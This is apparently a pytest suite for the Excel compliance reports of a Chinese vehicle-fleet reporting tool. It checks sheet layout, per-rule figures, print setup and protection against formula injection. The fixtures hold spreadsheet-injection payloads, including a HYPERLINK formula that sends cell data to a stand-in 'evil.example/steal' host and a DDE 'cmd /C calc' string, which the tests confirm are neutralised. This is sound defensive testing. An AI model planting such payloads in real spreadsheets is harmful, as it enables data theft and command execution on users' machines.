"""The compliance report workbook: sheets and figures as the engine computes them, print setup, and user
text that can never become a formula."""

from __future__ import annotations

import datetime as dt
import io
import zipfile

import pytest
from openpyxl import load_workbook

from fleet.base.periods import Period
from fleet.base.vocab import CATEGORIES
from fleet.read.reports import compliance_workbook
from rules.packs import get_pack
from tests import factories

OCTOBER = Period.month(2026, 10)
HYPERLINK = '=HYPERLINK("http://evil.example/steal?d="&A1,"点击查看")'


@pytest.fixture
def puyang():
    return get_pack("puyang-2024")


@pytest.fixture
def city(session):
    """Police: 5 official/enforcement cars in October, 2 of them NEV; the bus company: 2 buses, both NEV."""
    police = factories.agency(session, "濮阳市公安局", kind="党政机关", sector="公安")
    buses = factories.agency(session, "濮阳市公共交通有限公司", kind="国有企业", sector="公交")
    october = dt.date(2026, 10, 8)
    for power in ("纯电动", "插电式混合动力", "汽油", "汽油"):
        factories.acquisition(session, police, category="执法执勤用车", power=power, acquired_on=october, reported_on=october)
    factories.acquisition(
        session, police, category="公务用车", power="汽油", acquired_on=october, reported_on=dt.date(2026, 11, 20),
        brand_model=HYPERLINK,
    )
    for _ in range(2):
        factories.acquisition(session, buses, category="公交车", power="纯电动", acquired_on=october, reported_on=october)
    session.commit()
    return {"police": police, "buses": buses}


def open_workbook(data: bytes):
    return load_workbook(io.BytesIO(data))


def rows_of(sheet, first_row: int = 4) -> list[tuple]:
    return [row for row in sheet.iter_rows(min_row=first_row, values_only=True)]


def test_city_report_has_an_overview_a_sheet_per_rule_and_the_vehicles(session, puyang, city):
    workbook = open_workbook(compliance_workbook(session, puyang, OCTOBER))
    # Every rule of the pack is in force in October 2026, each with its sheet, in the pack's order.
    assert workbook.sheetnames == [
        "总览", "bus", "sanitation", "public-service", "official-car", "enforcement-car", "heavy-truck-emission", "车辆明细",
    ]


def test_rule_sheet_figures_match_the_engine_with_a_city_total_row(session, puyang, city):
    workbook = open_workbook(compliance_workbook(session, puyang, OCTOBER))
    rows = rows_of(workbook["enforcement-car"])
    # Only the police are a party and government body; 2 NEV of 4 enforcement cars against 60%:
    # ceil(0.6 × 4) − 2 = 1 more needed. The city's total row is the same, last.
    expected = (4, 2, 0, 0, pytest.approx(0.5), pytest.approx(0.6), "未达标", 1)
    assert [(row[0], *row[1:9]) for row in rows] == [("濮阳市公安局", *expected), ("全市合计", *expected)]


def test_vehicle_sheet_lists_every_in_scope_acquisition_with_its_mark(session, puyang, city):
    workbook = open_workbook(compliance_workbook(session, puyang, OCTOBER))
    rows = rows_of(workbook["车辆明细"])
    header = [c.value for c in workbook["车辆明细"][3]]
    column = {name: header.index(name) for name in header}
    enforcement = [r for r in rows if r[column["规则"]] == "enforcement-car"]
    assert sorted(r[column["标记"]] for r in enforcement) == ["计入新能源", "计入新能源", "非新能源", "非新能源"]
    late = [r for r in rows if r[column["逾期报送"]] == "是"]
    # The official car was reported 43 days after its purchase (deadline 30); it is in two rules.
    assert {r[column["报送用时（天）"]] for r in late} == {43}
    assert {r[column["规则"]] for r in late} == {"official-car"}


def test_agency_report_has_only_that_agency(session, puyang, city):
    data = compliance_workbook(session, puyang, OCTOBER, agency_id=city["buses"].id)
    workbook = open_workbook(data)
    assert workbook.sheetnames == ["总览", "bus", "车辆明细"]
    text = " ".join(str(v) for ws in workbook for row in ws.iter_rows(values_only=True) for v in row if v)
    assert "濮阳市公共交通有限公司" in text
    assert "濮阳市公安局" not in text and "全市合计" not in text


def test_every_sheet_is_set_up_for_printing(session, puyang, city):
    workbook = open_workbook(compliance_workbook(session, puyang, OCTOBER))
    for sheet in workbook:
        assert sheet.page_setup.orientation == "landscape", sheet.title
        assert sheet.sheet_properties.pageSetUpPr.fitToPage
        assert (sheet.page_setup.fitToWidth, sheet.page_setup.fitToHeight) == (1, 0)
        assert sheet.print_title_rows == "$1:$3"
        assert sheet.freeze_panes == "B4"
        assert sheet.column_dimensions["A"].width > 8
    overview = workbook["总览"]
    share_header = [c.value for c in overview[3]].index("占比") + 1
    assert overview.cell(row=4, column=share_header).number_format == "0.0%"


def test_user_text_can_never_become_a_formula(session, puyang, city):
    police = city["police"]
    factories.acquisition(
        session, police, category="执法执勤用车", power="柴油", acquired_on=dt.date(2026, 10, 9),
        reported_on=dt.date(2026, 10, 9), brand_model="@SUM(1+1)*cmd|' /C calc'!A0",
    )
    diesel_bus = factories.acquisition(
        session, city["buses"], category="公交车", power="柴油", acquired_on=dt.date(2026, 10, 9), reported_on=dt.date(2026, 10, 9)
    )
    factories.exemption_request(session, diesel_bus, reason_category="+1+1", reason="-2+3 山区线路需要柴油车")
    formula_agency = factories.agency(session, "=1+1 单位", kind="党政机关", sector="公安")
    factories.acquisition(
        session, formula_agency, category="执法执勤用车", power="汽油", acquired_on=dt.date(2026, 10, 10), reported_on=dt.date(2026, 10, 10),
        brand_model="\tTAB",
    )
    session.commit()
    data = compliance_workbook(session, puyang, OCTOBER)

    # No formula anywhere in the package: a formula is an <f> element in a worksheet.
    with zipfile.ZipFile(io.BytesIO(data)) as package:
        for name in package.namelist():
            if name.startswith("xl/worksheets/"):
                assert b"<f>" not in package.read(name) and b"<f " not in package.read(name), name
    workbook = open_workbook(data)
    dangerous = [
        cell
        for sheet in workbook
        for row in sheet.iter_rows()
        for cell in row
        if isinstance(cell.value, str) and cell.value[:1] in ("=", "+", "-", "@", "\t", "\r")
    ]
    values = {cell.value for cell in dangerous}
    assert HYPERLINK in values and "=1+1 单位" in values and "\tTAB" in values
    assert any(v.startswith("+1+1：-2+3") for v in values)
    for cell in dangerous:
        assert cell.data_type == "s" and cell.quotePrefix, (cell.coordinate, cell.value)


def test_english_report_writes_vocabulary_in_english(session, puyang, city):
    workbook = open_workbook(compliance_workbook(session, puyang, OCTOBER, locale="en"))
    vehicles = workbook.worksheets[-1]
    values = {v for row in vehicles.iter_rows(min_row=4, values_only=True) for v in row}
    assert CATEGORIES.english("公交车") in values
    assert "公交车" not in values
    # Sheet titles put the period in English brackets, not Chinese ones.
    titles = [sheet["A1"].value for sheet in workbook.worksheets]
    assert all("（" not in title and "）" not in title for title in titles), titles
    assert any(title.endswith(")") for title in titles), titles
